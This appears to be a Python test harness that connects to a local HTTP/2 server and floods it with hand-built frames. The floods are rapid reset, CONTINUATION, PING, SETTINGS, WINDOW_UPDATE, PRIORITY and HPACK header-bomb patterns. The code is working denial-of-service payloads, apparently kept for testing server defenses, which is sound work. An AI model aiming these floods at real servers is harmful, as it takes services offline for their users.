"""What clients of HTTP/2 can send again and again, as bytes."""

from __future__ import annotations

import itertools
import select
import socket
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#: Fields of the static table: a GET or a POST of `/` at the host `a`, none of which is kept.
GET = b"\x82\x84\x86\x01\x01a"
POST = b"\x83\x84\x86\x01\x01a"
#: How many rounds of a flood are sent at a time.
ROUNDS = 200


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame. RFC 9113, section 4.1."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def headers(stream: int, block: bytes, flags: int = 5) -> bytes:
    """A head; with these flags all of it, and nothing follows."""
    return frame(1, flags, stream, block)


def settings(*values: tuple[int, int]) -> bytes:
    """Settings of the client."""
    return frame(4, 0, 0, b"".join(struct.pack(">HI", *value) for value in values))


@dataclass(frozen=True)
class Flood:
    """One kind of flood: what comes first, and what is sent again and again."""

    name: str
    #: Given the number of a new stream.
    piece: Callable[[int], bytes]
    before: bytes = b""
    settings: bytes = settings()

    def pieces(self) -> Iterator[bytes]:
        """Blocks of the flood, without end as long as there are numbers for streams."""
        for start in itertools.count(3, 2 * ROUNDS):
            yield b"".join(self.piece(number) for number in range(start, start + 2 * ROUNDS, 2))


#: A field of 4,000 bytes that is kept, and then named 4,000 times in each head.
BOMB = GET + b"\x40\x01a" + b"\x7f\xa1\x1e" + b"b" * 4000

FLOODS = [
    Flood("rapid_reset", lambda n: headers(n, GET) + frame(3, 0, n, b"\0\0\0\x08")),
    Flood("made_you_reset", lambda n: headers(n, POST, 4) + frame(8, 0, n, b"\0\0\0\0")),
    Flood("continuation", lambda _: frame(9, 0, 1), before=headers(1, GET, 1)),
    Flood("settings", lambda _: settings((4, 65_535))),
    Flood("ping", lambda _: frame(6, 0, 0, b"12345678")),
    Flood("empty_frames", lambda _: frame(0, 0, 1), before=headers(1, POST, 4)),
    Flood(
        "header_bomb", lambda n: headers(n, GET + b"\xbe" * 4000), before=headers(1, BOMB)
    ),
    Flood("window_updates", lambda _: frame(8, 0, 0, b"\0\0\0\x01")),
    Flood("window_stall", lambda n: headers(n, GET), settings=settings((4, 0))),
    Flood("priority_churn", lambda _: frame(2, 0, 1, b"\0\0\0\x03\x10")),
]


class Attack:
    """A connection that floods as fast as it is taken."""

    def __init__(self, port: int, flood: Flood) -> None:
        self.connection = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.connection.setblocking(False)
        self.pieces = flood.pieces()
        self.rest = PREFACE + flood.settings + flood.before
        self.is_over = False

    def run(self, seconds: float) -> bool:
        """Floods for so long; whether the connection was ended by then."""
        limit = time.monotonic() + seconds
        while not self.is_over and (left := limit - time.monotonic()) > 0:
            readable, writable, _ = select.select(
                [self.connection], [self.connection], [], max(left, 0)
            )
            try:
                if readable and not self.connection.recv(1 << 16):
                    self.is_over = True
                if writable and not self.is_over:
                    self.rest = self.rest or next(self.pieces)
                    self.rest = self.rest[self.connection.send(self.rest) :]
            except BlockingIOError:
                continue
            except OSError:
                self.is_over = True
        return self.is_over

    def close(self) -> None:
        """Ends the connection."""
        self.connection.close()
